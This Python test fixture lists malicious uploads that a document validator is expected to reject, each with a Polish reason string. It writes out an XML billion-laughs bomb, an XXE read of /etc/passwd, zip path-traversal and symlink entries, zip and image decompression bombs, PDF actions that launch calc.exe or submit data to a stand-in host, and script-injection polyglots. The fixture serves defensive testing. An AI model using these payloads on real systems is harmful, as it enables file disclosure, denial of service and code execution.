"""Files that must not come in: each a name, its bytes, and words of the reason the editor is given.

What takes long to make is made when it is needed: a function stands for its bytes.
"""

import struct
import zipfile
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests import documents

DOCX, ODT, PNG, PDF = (
    documents.docx_file(),
    documents.open_document(),
    documents.picture(),
    documents.pdf(),
)
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://zly.example/szablon.dotm" TargetMode="External"/></Relationships>'
)
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
BOMB = f'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a0 "ha">{LAUGHS}]><d>&a9;</d>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'
MACRO_TYPES = (
    '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
ENCRYPTED_MANIFEST = '<m:manifest xmlns:m="urn:x"><m:encryption-data/></m:manifest>'


def spoiled_pdf(**root) -> bytes:
    """Return a PDF with entries added to its catalogue."""

    def prepare(pdf):
        for name, value in root.items():
            pdf.Root[f"/{name}"] = pdf.make_indirect(value)

    return documents.pdf(prepare=prepare)


def action(kind, **more):
    return spoiled_pdf(OpenAction=Dictionary(S=Name(f"/{kind}"), **more))


def with_attachment(pdf):
    pdf.attachments["wirus.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ" + b"\0" * 100)


def huge_png() -> bytes:
    """Return a picture of 900 million points in some hundred bytes."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")
    )


def with_symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/obraz.png")
    link.external_attr = 0o120777 << 16
    file = BytesIO(DOCX)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr(link, "/etc/passwd")
    return file.getvalue()


def with_twins() -> bytes:
    file = BytesIO(DOCX)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("Word/Document.xml", "<d/>")
    return file.getvalue()


def many_members() -> bytes:
    return documents.archive({f"word/media/{number}.png": b"" for number in range(100_000)})


def padded(megabytes) -> bytes:
    """Return a document of few bytes that unpacks to many."""
    return documents.repacked(DOCX, **{"word__media__a.bmp": bytes(megabytes * 1024 * 1024)})


def lying_size() -> bytes:
    """Return a document whose list of members says less than they unpack to."""
    content = b"<d>" + b" " * 300_000 + b"</d>"
    data = bytearray(documents.repacked(DOCX, word__dodatek=content))
    return bytes(data).replace(struct.pack("<I", len(content)), struct.pack("<I", 10))


def encrypted_zip() -> bytes:
    data = bytearray(DOCX)
    place = data.rfind(b"PK\x01\x02")
    data[place + 8] |= 1
    return bytes(data)


def deep_pdf() -> bytes:
    nested = Array([])
    for _level in range(60):
        nested = Array([nested])
    return spoiled_pdf(Gniazdo=nested)


FILES = [
    (
        "skrypt.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "niedozwolony rodzaj",
    ),
    ("strona.html", b"<script>alert(1)</script>", "niedozwolony rodzaj"),
    ("program.exe", b"MZ\x90\x00", "niedozwolony rodzaj"),
    ("raport.pdf.php", PDF, "niedozwolony rodzaj"),
    (".htaccess", b"AddType text/html .pdf", "niedozwolony rodzaj"),
    ("makra.docm", DOCX, "niedozwolony rodzaj"),
    ("stary.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "niedozwolony rodzaj"),
    ("archiwum.zip", documents.archive({"a": b"a"}), "niedozwolony rodzaj"),
    ("bez-konca", PDF, "niedozwolony rodzaj"),
    ("pusty.pdf", b"", "jest pusty"),
    ("duzy.pdf", lambda: PDF + bytes(20 * 1024 * 1024), "większy niż 20 MB"),
    ("strona.png", b"<html><script>alert(1)</script></html>", "nie jest plikiem PNG"),
    ("strona.pdf", b"<html><script>alert(1)</script></html>", "nie jest plikiem PDF"),
    ("program.pdf", b"MZ\x90\x00" + PDF, "nie jest plikiem PDF"),
    ("obraz.jpg", PNG, "nie jest plikiem JPG"),
    ("urwany.png", PNG[:60], "nie jest poprawnym obrazem PNG"),
    ("powodz.png", huge_png(), "mln punktów"),
    ("obraz-i-strona.png", PNG + b"<script>alert(1)</script>", "dopisane inne dane"),
    (
        "obraz-i-archiwum.jpg",
        documents.picture("JPEG") + documents.archive({"a.php": b"a"}),
        "dopisane inne dane",
    ),
    ("smieci.pdf", b"%PDF-1.7\n" + b"\x00\xff" * 500 + b"\n%%EOF", "uszkodzony"),
    ("urwany.pdf", PDF[:300], "ucięty"),
    ("pdf-i-archiwum.pdf", PDF + documents.archive({"a.php": b"a"}), "dopisane inne dane"),
    ("pdf-i-strona.pdf", PDF + b"<script>alert(1)</script>", "dopisane inne dane"),
    ("haslo.pdf", documents.pdf(encryption=pikepdf.Encryption(owner="a", user="b")), "zaszyfrowany"),
    ("bez-kopiowania.pdf", documents.pdf(encryption=pikepdf.Encryption(owner="a", user="")), "zaszyfrowany"),
    ("skrypt.pdf", action("JavaScript", JS="app.alert(1)"), "ma skrypty"),
    (
        "skrypt-nazwany.pdf",
        spoiled_pdf(Names=Dictionary(JavaScript=Dictionary(Names=Array([])))),
        "ma skrypty",
    ),
    ("uruchamia.pdf", action("Launch", F="calc.exe"), "uruchamia programy"),
    ("wysyla.pdf", action("SubmitForm", F="https://zly.example/"), "wysyła dane"),
    ("zalacznik.pdf", documents.pdf(prepare=with_attachment), "ma w środku inny plik"),
    ("xfa.pdf", spoiled_pdf(AcroForm=Dictionary(XFA=Array([]))), "formularz XFA"),
    ("multimedia.pdf", spoiled_pdf(Film=Dictionary(Type=Name("/RichMedia"))), "multimedia"),
    ("gniazdo.pdf", deep_pdf(), "zbyt złożony"),
    ("bez-stron.pdf", documents.pdf(pages=0), "nie ma żadnej strony"),
    ("zwykly-zip.docx", documents.archive({"notatka.txt": b"a"}), "nie jest dokumentem Office"),
    ("tekst.docx", b"zwykly tekst", "nie jest plikiem DOCX"),
    ("prezentacja.docx", documents.pptx_file(), "nie jest plikiem DOCX"),
    ("tekst.odp", ODT, "nie jest plikiem ODP"),
    ("makra.docx", documents.repacked(DOCX, **{"word__vbaProject.bin": b"a"}), "ma makra"),
    ("typ-z-makrami.docx", documents.repacked(DOCX, **{"[Content_Types].xml": MACRO_TYPES}), "ma makra"),
    ("makra.odt", documents.repacked(ODT, **{"Basic__Standard__m.xml": "<m/>"}), "ma makra"),
    ("haslo.odt", documents.repacked(ODT, **{"META-INF__manifest.xml": ENCRYPTED_MANIFEST}), "zaszyfrowany"),
    ("zaszyfrowany.docx", encrypted_zip(), "zaszyfrowany"),
    (
        "szablon.docx",
        documents.repacked(DOCX, **{"word___rels__settings.xml.rels": RELATION}),
        "innego adresu",
    ),
    (
        "ole.docx",
        documents.repacked(DOCX, **{"word__embeddings__oleObject1.bin": b"a"}),
        "inny plik (oleobject1.bin)",
    ),
    ("program.odt", documents.repacked(ODT, **{"Pictures__a.exe": b"MZ"}), "inny plik (a.exe)"),
    ("smiech.docx", documents.repacked(DOCX, **{"word__document.xml": BOMB}), "definicje XML"),
    ("smiech.odt", documents.repacked(ODT, **{"content.xml": BOMB}), "definicje XML"),
    ("podgladacz.docx", documents.repacked(DOCX, **{"word__document.xml": OUTSIDE}), "definicje XML"),
    (
        "utf16.docx",
        documents.repacked(
            DOCX, **{"word__document.xml": OUTSIDE.replace("?>", ' encoding="utf-16"?>').encode("utf-16")}
        ),
        "definicje XML",
    ),
    ("popsuty.docx", documents.repacked(DOCX, **{"word__document.xml": "<d>"}), "nie jest poprawnym XML-em"),
    ("bomba.docx", lambda: padded(160), "zbyt duży"),
    (
        "ciasny.docx",
        lambda: padded(20),
        "bombę archiwalną",
    ),
    ("tlum.docx", many_members, "zbyt wiele części"),
    (
        "gniazdo.docx",
        documents.repacked(DOCX, **{"word__a.zip": documents.archive({"a": b"a"})}),
        "inny plik (a.zip)",
    ),
    (
        "sciezka.docx",
        documents.repacked(DOCX, **{"..__..__etc__passwd": b"a"}),
        "ścieżkę prowadzącą poza plik",
    ),
    ("odwrotna.docx", documents.repacked(DOCX, **{"word\\..\\a.png": b"a"}), "ścieżkę prowadzącą poza plik"),
    ("bezwzgledna.docx", documents.repacked(DOCX, __etc__passwd=b"a"), "ścieżkę prowadzącą poza plik"),
    ("dowiazanie.docx", with_symlink(), "dowiązanie"),
    ("bliznieta.docx", with_twins(), "o tej samej nazwie"),
    ("klamca.docx", lying_size(), "uszkodzony"),
    ("urwany.docx", DOCX[:-200], "uszkodzony"),
    ("docx-i-strona.docx", DOCX + b"<script>alert(1)</script>", "dopisane inne dane"),
]
